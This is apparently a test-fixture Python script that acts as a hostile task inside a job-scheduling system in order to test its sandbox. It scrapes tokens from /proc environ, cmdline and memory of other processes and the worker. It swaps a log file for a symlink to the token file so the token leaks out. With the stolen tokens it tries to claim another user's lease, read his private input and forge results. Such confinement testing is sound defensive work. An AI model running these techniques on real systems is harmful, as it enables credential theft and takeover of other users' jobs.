"""A hostile command task: it hunts for the node's credential everywhere a task might see it,
then tries to use whatever it found to take another job's task. It writes what it saw and
what each attempt got into ``metrics.json``, so a test can tell what the confinement let through.

argv: COORDINATOR_URL TOKEN_FILE WRITE_PROBE_PATH...
The worker's pid is read from ``worker.pid`` in the ``hints`` local input once it appears.
"""

from __future__ import annotations

import errno
import json
import os
import re
import socket
import sys
import time
import urllib.error
import urllib.request
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

URL, TOKEN_FILE, WRITE_PROBES = sys.argv[1], sys.argv[2], sys.argv[3:]
OUT = Path(os.environ["FLASHML_OUTPUT_DIR"])
TOKENISH = re.compile(r"TOKEN|JOIN", re.IGNORECASE)


def read(path: str) -> tuple[bytes | None, str]:
    try:
        with open(path, "rb") as handle:
            return handle.read(1 << 20), "read"
    except OSError as exc:
        return None, type(exc).__name__


def env_candidates(block: bytes) -> list[str]:
    found = []
    for entry in block.split(b"\0"):
        name, _, value = entry.decode("utf-8", "replace").partition("=")
        if value and TOKENISH.search(name):
            found.append(value)
    return found


def argv_candidates(block: bytes) -> list[str]:
    args = [arg.decode("utf-8", "replace") for arg in block.split(b"\0") if arg]
    found = []
    for index, arg in enumerate(args):
        if arg in ("--token", "--token-file") and index + 1 < len(args):
            found.append(args[index + 1])
        elif arg.startswith("--token="):
            found.append(arg.split("=", 1)[1])
    return found


report: dict[str, Any] = {"candidates": [], "processes": {}, "attempts": []}
candidates: list[str] = env_candidates(b"\0".join(f"{k}={v}".encode() for k, v in os.environ.items()))
report["own_environment_names"] = sorted(os.environ)

# Every process this task can see: its environment and its command line.
for entry in sorted(os.listdir("/proc")):
    if not entry.isdigit():
        continue
    environ, environ_how = read(f"/proc/{entry}/environ")
    cmdline, _ = read(f"/proc/{entry}/cmdline")
    report["processes"][entry] = {
        "environ": environ_how,
        "cmdline": (cmdline or b"").replace(b"\0", b" ").decode("utf-8", "replace")[:300],
    }
    if environ:
        candidates += env_candidates(environ)
    if cmdline:
        candidates += argv_candidates(cmdline)
report["parent_environ"] = read(f"/proc/{os.getppid()}/environ")[1]

# The worker itself, by the pid the test publishes.
hints = json.loads(Path(os.environ["FLASHML_INPUTS_FILE"]).read_text())["hints"]
pid_file = Path(hints) / "worker.pid"
deadline = time.monotonic() + 30
while not pid_file.exists() and time.monotonic() < deadline:
    time.sleep(0.1)
worker_pid = pid_file.read_text().strip() if pid_file.exists() else ""
report["worker_pid"] = worker_pid
for what in ("environ", "cmdline", "mem"):
    data, how = read(f"/proc/{worker_pid}/{what}")
    report[f"worker_{what}"] = how
    if data and what == "environ":
        candidates += env_candidates(data)
    if data and what == "cmdline":
        candidates += argv_candidates(data)

# The token file, by the path the worker was given, and any file a command line named.
token_data, report["token_file"] = read(TOKEN_FILE)
if token_data and token_data.strip():
    candidates.append(token_data.decode("utf-8", "replace").strip())
for path in list(candidates):
    if path.startswith("/"):
        data, _ = read(path)
        if data and data.strip():
            candidates.append(data.decode("utf-8", "replace").strip())

# The worker's work root: other leases' directories, its journal and lock.
work_root = Path(os.environ["FLASHML_OUTPUT_DIR"]).parents[3]
report["work_root_entries"] = sorted(str(path.relative_to(work_root)) for path in work_root.rglob("*"))[:200]

# The worker reads and uploads the lease's log as the task's log: swap it for a link to the
# token file, and the worker would upload the token for this job's submitter to read.
lease_root = Path(os.environ["FLASHML_OUTPUT_DIR"]).parent
try:
    (lease_root / "swap").symlink_to(TOKEN_FILE)
    os.replace(lease_root / "swap", lease_root / "launcher.log")
    report["log_swapped"] = "swapped"
except OSError as exc:
    report["log_swapped"] = type(exc).__name__

# The network: the coordinator's port.
parts = urlsplit(URL)
try:
    socket.create_connection((parts.hostname, parts.port), timeout=5).close()
    report["coordinator_reachable"] = True
except OSError as exc:
    report["coordinator_reachable"] = False
    report["coordinator_error"] = type(exc).__name__

# Writing outside the lease's directory: where the test looks, and beside this program.
report["writes"] = {}
for target in WRITE_PROBES:
    try:
        Path(target).write_text("written by a task")
        report["writes"][target] = "written"
    except OSError as exc:
        report["writes"][target] = errno.errorcode.get(exc.errno or 0, type(exc).__name__)


def call(method: str, path: str, token: str | None, body: Any = None, data: bytes | None = None) -> tuple[int, Any]:
    headers = {"Content-Type": "application/json"}
    if token:
        headers["Authorization"] = f"Bearer {token}"
    if body is not None:
        data = json.dumps(body).encode()
    request = urllib.request.Request(URL + path, data=data, method=method, headers=headers)
    try:
        with urllib.request.urlopen(request, timeout=10) as response:
            raw = response.read()
            return response.status, raw.decode("utf-8", "replace")[:500]
    except urllib.error.HTTPError as exc:
        return exc.code, exc.read().decode("utf-8", "replace")[:500]
    except OSError as exc:
        return 0, type(exc).__name__


# With each credential found (and with none): become a node of bob's pool, claim his task,
# read its private input, commit a result of its own.
report["candidates"] = sorted(set(candidates))
for token in [None, *report["candidates"]]:
    attempt: dict[str, Any] = {"with": "nothing" if token is None else "a found value"}
    registration = {"node_id": "box-1", "kubernetes_node": "", "hostname": "box-1", "capabilities": {"pools": ["team-b"]},
                    "sandbox_capable": True, "unsandboxed_argv_capable": True}
    attempt["register"] = call("POST", "/v1alpha1/nodes/register", token, registration)[0]
    status, answer = call("POST", "/v1alpha1/leases/claim", token, {"node_id": "box-1"})
    attempt["claim"] = status
    if status == 200:
        lease = json.loads(answer)
        lease_id, payload = lease["lease_id"], lease["payload"]
        for name, uri in (payload.get("inputs") or {}).items():
            attempt[f"input {name}"] = call("GET", "/v1alpha1/artifacts/" + uri[len("artifact://"):], token)
        prefix = payload["output_prefix"]
        attempt["upload"] = call("PUT", f"/v1alpha1/artifacts/{prefix}metrics.json", token,
                                 data=json.dumps({"owner": "attacker"}).encode())[0]
        attempt["complete"] = call("POST", f"/v1alpha1/attempts/{lease_id}/complete", token, {})[0]
    attempt["bob_input_direct"] = call("GET", "/v1alpha1/artifacts/users/bob/private.txt", token)[0]
    report["attempts"].append(attempt)

(OUT / "metrics.json").write_text(json.dumps(report, indent=1))
